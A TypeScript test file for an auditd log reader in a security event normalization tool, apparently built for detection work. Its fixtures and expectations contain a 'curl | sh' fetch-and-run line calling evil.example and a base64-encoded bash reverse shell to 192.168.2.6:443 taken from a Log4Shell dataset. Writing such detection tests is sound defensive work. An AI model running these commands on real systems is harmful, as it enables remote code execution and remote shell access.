import { createReadStream, readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { Readable } from 'node:stream';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import type { NormalizedEvent } from '../../../src/events/event.js';
import { auditdReader } from '../../../src/sources/auditd.js';
import { otrfReader } from '../../../src/sources/otrf.js';
import { chunked, corpusFile, readWith, withoutSource } from '../helpers.js';

const FIXTURE = join(dirname(fileURLToPath(import.meta.url)), '../../fixtures/auditd/audit-log.txt');
const sigma = (e: NormalizedEvent) => {
  const picked: Record<string, unknown> = { line: e.source.line, category: e.category };
  for (const [k, v] of Object.entries(e.fields)) if (/^(Image|CommandLine|CurrentDirectory|User|AuditUser|ProcessId|ParentProcessId|ParentImage|ParentCommandLine|DestinationIp|DestinationPort|TargetFilename|SourceFilename|SocketPath)$/.test(k)) picked[k] = v;
  return picked;
};

/**
 * test/fixtures/auditd/audit-log.txt (not .log: .gitignore drops *.log) is hand-written: its hex values were produced with python
 * (`'…'.encode().hex()`, `ipaddress.IPv6Address('2001:db8::1').packed.hex()`) from the plain
 * strings asserted below, so the expectations do not come from the code under test.
 */
describe('auditd reader on the fixture', () => {
  it('normalizes execve, connect (inet, inet6, unix), file creation and rename; reports bad lines', async () => {
    const r = await readWith(auditdReader, createReadStream(FIXTURE), 'audit.log');
    expect(r.events.map(sigma)).toEqual([
      { line: 1, category: 'process_creation', Image: '/usr/bin/node', ProcessId: 2000, User: 'root', AuditUser: 'dev',
        CommandLine: 'node /usr/lib/node_modules/npm/bin/npm-cli.js install', CurrentDirectory: '/home/dev/app', ParentProcessId: 1000 },
      { line: 7, category: 'process_creation', Image: '/usr/bin/dash', ProcessId: 2001, User: '0', AuditUser: '1001',
        CommandLine: "sh -c 'curl -s https://evil.example/x.sh | sh # ééé'", CurrentDirectory: '/home/dev/app/node_modules/evil',
        ParentProcessId: 2000, ParentImage: '/usr/bin/node', ParentCommandLine: 'node /usr/lib/node_modules/npm/bin/npm-cli.js install' },
      { line: 8, category: 'network_connection', Image: '/usr/bin/node', ProcessId: 2000, User: '0', AuditUser: '1001', DestinationIp: '192.0.2.7', DestinationPort: 443 },
      { line: 17, category: 'network_connection', Image: '/usr/bin/dash', ProcessId: 2001, User: '0', AuditUser: '1001', DestinationIp: '2001:db8::1', DestinationPort: 80 },
      { line: 19, category: 'file_event', Image: '/usr/bin/dash', ProcessId: 2001, User: '0', AuditUser: '1001', TargetFilename: '/home/dev/app/.github/workflows/ci 1.yml' },
      { line: 23, category: 'file_event', Image: '/usr/bin/dash', ProcessId: 2001, User: '0', AuditUser: '1001', TargetFilename: '/home/dev/.npmrc.d/hook', SourceFilename: '/tmp/payload.tmp' },
      { line: 29, category: undefined, Image: '/usr/bin/dash', ProcessId: 2001, User: '0', AuditUser: '1001' },
      { line: 31, category: undefined, Image: '/usr/lib/systemd/systemd', ProcessId: 3000, User: '0', SocketPath: '/run/systemd/journal/socket' },
    ]);
    expect(r.events.every((e) => e.product === 'linux' && e.service === 'auditd')).toBe(true);
    expect(r.events[0]!.time).toBe(Date.UTC(2023, 10, 14, 22, 13, 20, 100)); // 1700000000.100
    expect(r.events[0]!.fields.type).toEqual(['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'PROCTITLE']);
    expect([r.events[1]!.fields.a2, r.events[1]!.fields.argc, r.events[0]!.fields.proctitle]).toEqual([
      'curl -s https://evil.example/x.sh | sh # ééé', 3, 'node /usr/lib/node_modules/npm/bin/npm-cli.js install']);
    expect(r.bad.map((b) => [b.line, b.reason])).toEqual([
      [14, 'not an audit record (no type=… msg=audit(TIME:SERIAL))'],
      [15, 'truncated record: unterminated quoted value of comm'],
      [16, 'not an audit record (no type=… msg=audit(TIME:SERIAL))'],
    ]);
  });

  it('gives the same events whatever the chunking', async () => {
    const bytes = readFileSync(FIXTURE);
    const whole = await readWith(auditdReader, Readable.from([bytes]));
    for (const sizes of [[1], [7, 13], [4096]]) {
      const cut = await readWith(auditdReader, chunked(bytes, sizes));
      expect(withoutSource(cut.events)).toEqual(withoutSource(whole.events));
      expect(cut.bad.length).toBe(3);
    }
  });

  it('parent fields are absent when the parent was never seen; relative *at names stay relative', async () => {
    const log = [
      'type=SYSCALL msg=audit(1.000:1): arch=c000003e syscall=59 success=yes exit=0 ppid=77 pid=78 uid=0 exe="/bin/id"',
      'type=EXECVE msg=audit(1.000:1): argc=1 a0="id"',
      'type=EOE msg=audit(1.000:1): ',
      'type=SYSCALL msg=audit(1.000:2): arch=c000003e syscall=257 success=yes exit=3 a0=5 a1=0 a2=41 a3=0 ppid=77 pid=78 uid=0 exe="/bin/id"',
      'type=CWD msg=audit(1.000:2): cwd="/root"',
      'type=PATH msg=audit(1.000:2): item=0 name="out.txt" nametype=CREATE',
      'type=SYSCALL msg=audit(1.000:3): arch=c000003e syscall=59 success=no exit=-2 ppid=77 pid=79 uid=0 exe="/bin/sh"',
    ].join('\n');
    const r = await readWith(auditdReader, Readable.from([log]));
    expect(r.events.map(sigma)).toEqual([
      { line: 1, category: 'process_creation', Image: '/bin/id', ProcessId: 78, User: '0', CommandLine: 'id', ParentProcessId: 77 },
      { line: 4, category: 'file_event', Image: '/bin/id', ProcessId: 78, User: '0', TargetFilename: 'out.txt' },
      { line: 7, category: undefined, Image: '/bin/sh', ProcessId: 79, User: '0' },
    ]);
    expect(r.bad).toEqual([]);
  });

  it('an exited pid (exit_group) is forgotten: a child of the process that reuses it gets no parent image', async () => {
    const exec = (serial: number, ppid: number, pid: number, exe: string, arg: string) => [
      `type=SYSCALL msg=audit(1.000:${serial}): arch=c000003e syscall=59 success=yes exit=0 ppid=${ppid} pid=${pid} uid=0 exe="${exe}"`,
      `type=EXECVE msg=audit(1.000:${serial}): argc=1 a0="${arg}"`,
      `type=EOE msg=audit(1.000:${serial}): `,
    ];
    const log = [
      ...exec(1, 1, 100, '/usr/bin/node', 'node'),
      ...exec(2, 100, 101, '/bin/sh', 'sh'),
      'type=SYSCALL msg=audit(1.000:3): arch=c000003e syscall=231 a0=0 a1=0 a2=0 a3=0 items=0 ppid=1 pid=100 uid=0 exe="/usr/bin/node"',
      'type=EOE msg=audit(1.000:3): ',
      ...exec(4, 100, 102, '/bin/ls', 'ls'), // pid 100 is now an unrelated process, never seen exec'ing
    ].join('\n');
    const r = await readWith(auditdReader, Readable.from([log]));
    const parents = r.events.map((e) => [e.fields.ProcessId, e.fields.ParentProcessId, e.fields.ParentImage, e.fields.SYSCALL]);
    expect(parents).toEqual([
      [100, 1, undefined, 'execve'],
      [101, 100, '/usr/bin/node', 'execve'],
      [100, undefined, undefined, 'exit_group'],
      [102, 100, undefined, 'execve'],
    ]);
    expect(r.bad).toEqual([]);
  });

  it('reports an EXECVE short of its argc and a record arriving after its event closed, and goes on', async () => {
    const lines = ['type=EXECVE msg=audit(1.000:1): argc=2 a0="ls"'];
    for (let s = 2; s <= 40; s++) lines.push(`type=SYSCALL msg=audit(1.000:${s}): pid=${s}`);
    lines.push('type=PATH msg=audit(1.000:1): item=0 name="/x" nametype=NORMAL');
    const r = await readWith(auditdReader, Readable.from([lines.join('\n')]));
    expect(r.events.length).toBe(40);
    expect(r.events[0]!.fields.CommandLine).toBe('ls');
    expect(r.bad.map((b) => [b.line, b.reason])).toEqual([
      [1, 'audit(1.000:1): EXECVE argc=2 but a1 is missing'],
      [41, 'PATH record of audit(1.000:1) arrived after its event was closed (32 later events had begun)'],
    ]);
  });

  it('sniffs raw, node= and syslog-wrapped audit lines, and nothing else', () => {
    expect(auditdReader.sniff('type=SYSCALL msg=audit(1604994496.155:92733): arch=c000003e\n')).toBe(0.9);
    expect(auditdReader.sniff('\nnode=h type=EOE msg=audit(1.000:2): \n')).toBe(0.9);
    expect(auditdReader.sniff('type=AUOMS_EXECVE audit(1.000:2): pid=1\n')).toBe(0.9);
    expect(auditdReader.sniff('Nov 10 07:48:12 web-1 audispd: node=web-1 type=EXECVE msg=audit(1.001:7): argc=1\n')).toBe(0.85);
    expect(auditdReader.sniff('{"type":"SYSCALL","msg":"audit(1.000:1)"}\n')).toBe(0);
    expect(auditdReader.sniff('type=SYSCALL without a header\n')).toBe(0);
    expect(auditdReader.sniff('Nov 10 07:48:12 web-1 sshd[1]: Accepted key\n')).toBe(0);
  });
});

/**
 * The real logs. Expected values were read off the files by hand (`cat`; the PROCTITLE and hex
 * argument decoded with python `bytes.fromhex`): e.g. sh_arp_cache has two SYSCALL/EXECVE groups,
 * arp (pid 1631) and grep (pid 1632), both ppid 29002, uid 1000, cwd /home/wardog.
 */
describe('auditd reader on the real corpus (needs ../shared/corpus)', () => {
  const read = (path: string) => readWith(auditdReader, createReadStream(corpusFile(path)));

  it('OTRF sh_arp_cache: arp -a and grep -v ^?', async () => {
    const r = await read('OTRF__Security-Datasets/sh_arp_cache_2020-11-10074812.log');
    expect(r.bad).toEqual([]);
    expect(r.events.map(sigma)).toEqual([
      { line: 1, category: 'process_creation', Image: '/usr/sbin/arp', CommandLine: 'arp -a', CurrentDirectory: '/home/wardog', User: '1000', AuditUser: '1000', ProcessId: 1631, ParentProcessId: 29002 },
      { line: 7, category: 'process_creation', Image: '/bin/grep', CommandLine: 'grep -v ^?', CurrentDirectory: '/home/wardog', User: '1000', AuditUser: '1000', ProcessId: 1632, ParentProcessId: 29002 },
    ]);
    expect(r.events[1]!.fields.proctitle).toBe('grep -v ^?'); // 67726570002D76005E3F
  });

  it('OTRF sh_binary_padding_dd: dd if=/dev/zero bs=1 count=1', async () => {
    const r = await read('OTRF__Security-Datasets/sh_binary_padding_dd_2020-11-10081941.log');
    expect(r.bad).toEqual([]);
    expect(r.events.map(sigma)).toEqual([
      { line: 1, category: 'process_creation', Image: '/bin/dd', CommandLine: 'dd if=/dev/zero bs=1 count=1', CurrentDirectory: '/home/wardog', User: '1000', AuditUser: '1000', ProcessId: 2168, ParentProcessId: 29002 },
    ]);
  });

  it('elastic/beats execve-hex-arg: the hex a2 decoded, single-quoted in the command line', async () => {
    const r = await read('elastic__beats/filebeat/module/auditd/log/test/execve-hex-arg.log');
    expect(r.bad).toEqual([]);
    expect(r.events.map(sigma)).toEqual([{ line: 1, category: 'process_creation', CommandLine: `sh -c 'echo \\"arg hex encoded\\"'` }]);
    expect(r.events[0]!.time).toBe(1669615313901);
  });

  /**
   * AUOMS through the otrf reader. `grep -c success=yes` on the file gives 27 lines (each a
   * successful execve); lines 6–8 are java's `bash -c` (pid 17790, ppid 1340, never exec'd in the
   * set) and its children base64 and bash -i (ppid 17790), read with python json + a regex on
   * SyslogMessage.
   */
  it('OTRF AUOMS rows: process_creation for each successful execve, parents joined on ppid', async () => {
    const r = await readWith(otrfReader, createReadStream(corpusFile('OTRF__Security-Datasets/syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json')));
    expect(r.bad).toEqual([]);
    expect(r.events.length).toBe(50);
    expect(r.events.filter((e) => e.category === 'process_creation').length).toBe(27);
    const bash = '/bin/bash';
    const bashC = 'bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"';
    expect(r.events.slice(5, 8).map(sigma)).toEqual([
      { line: 6, category: 'process_creation', Image: bash, CommandLine: bashC, CurrentDirectory: '/', User: 'tomcat', ProcessId: 17790, ParentProcessId: 1340 },
      { line: 7, category: 'process_creation', Image: bash, CommandLine: 'bash -i', CurrentDirectory: '/', User: 'tomcat', ProcessId: 17794, ParentProcessId: 17790, ParentImage: bash, ParentCommandLine: bashC },
      { line: 8, category: 'process_creation', Image: '/usr/bin/base64', CommandLine: 'base64 -d', CurrentDirectory: '/', User: 'tomcat', ProcessId: 17793, ParentProcessId: 17790, ParentImage: bash, ParentCommandLine: bashC },
    ]);
    expect([r.events[0]!.category, r.events[0]!.host, r.events[0]!.product, r.events[0]!.service, r.events[0]!.fields.TenantId]).toEqual([undefined, 'UBUNTU5', 'linux', 'auditd', 'redacted']);
  });
});
